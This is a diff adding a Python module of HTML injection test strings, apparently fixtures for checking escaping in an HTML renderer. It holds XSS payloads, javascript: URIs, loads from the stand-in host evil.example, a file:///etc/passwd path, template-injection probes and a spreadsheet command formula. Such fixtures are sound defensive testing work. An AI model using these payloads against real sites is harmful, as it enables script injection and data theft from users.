@@ -1,0 +1,75 @@
+"""Strings that have broken pages before: elements, attributes, addresses, entities, controls.
+
+Each tries to leave a trace (`pwned` on the console or the document, or a request to
+evil.example) and to break out of text, of a quoted attribute, of a comment, a style sheet or SVG.
+"""
+
+from __future__ import annotations
+
+__all__ = ["PAYLOADS"]
+
+_RUN = "console.log('pwned')"
+
+PAYLOADS = (
+    f"<script>{_RUN}</script>",
+    f"</script><script>{_RUN}</script>",
+    f"<ScRiPt >{_RUN}</sCrIpT>",
+    f"<<script>{_RUN}//<</script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<img src=x onerror={_RUN}>",
+    f"<img src='//evil.example/i.png' onload=\"{_RUN}\">",
+    f"<svg onload={_RUN}>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"</title><svg/onload={_RUN}>",
+    f"</desc></svg><img src=x onerror={_RUN}>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    "<svg><use href='//evil.example/s.svg#x'/></svg>",
+    "<svg><image href='//evil.example/i.png'/></svg>",
+    f"<body onload={_RUN}>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<select autofocus onfocus={_RUN}></select>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}></audio>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<iframe src=\"javascript:{_RUN}\"></iframe>",
+    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
+    "<object data='//evil.example/o'></object>",
+    "<embed src='//evil.example/e'>",
+    "<link rel=stylesheet href=//evil.example/s.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+    "<base href=//evil.example/>",
+    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
+    "<style>@import '//evil.example/s.css';</style>",
+    "</style><style>*{background:url(//evil.example/b)}</style>",
+    "</head><body><h1>another heading</h1>",
+    "</p></dd></dl></article></main></body></html><h1>after</h1>",
+    "<!--", "-->", "<!-- --!><img src=x>", "<![CDATA[<b>]]>", "<?php echo 1 ?>", "<!DOCTYPE x>",
+    "<plaintext>", "<noscript><p title='</noscript><img src=x>'>", "<template><b></template>",
+    "<math><mi//xlink:href='javascript:1'>", "<textarea>", "<xmp>", "</xmp>", "<table><tr><td>",
+    f"\" onmouseover=\"{_RUN}\" x=\"",
+    f"' onfocus='{_RUN}' autofocus tabindex=1 x='",
+    f"\"><img src=x onerror={_RUN}>",
+    f"'><img src=x onerror={_RUN}>",
+    f"` onerror={_RUN} `",
+    f"javascript:{_RUN}",
+    f" javascript:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"javascript&colon;{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    f"vbscript:{_RUN}",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "http://evil.example/\"onclick=\"1",
+    "https://evil.example/<script>",
+    "http://[::1",
+    "#p-1\" onclick=\"1",
+    "&lt;script&gt;1&lt;/script&gt;", "&#60;script&#62;", "&quot;&amp;&#x27;", "&", "&amp", "&#0;",
+    "\x00<b>\x00", "<\x00script>", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
+    "\u202e<b>\u202c", "\u2028<b>\u2029", "\ufeff<b>", "\ud800<b>", "\U000e0041<b>", "\x85<b>",
+    "+ADw-script+AD4-1+ADw-/script+AD4-", "\u00bcscript\u00be", "\uff1cscript\uff1e",
+    "{{7*7}}", "${7*7}", "{% raw %}", "<%= 7*7 %>", "%3Cscript%3E", "\\u003cscript\\u003e",
+    "url(//evil.example/)", "}*{background:url(//evil.example/c)}", "/*", "*/",
+    "=cmd|' /C calc'!A0", "[link](javascript:1)", "![i](//evil.example/i.png)",
+)  # fmt: skip
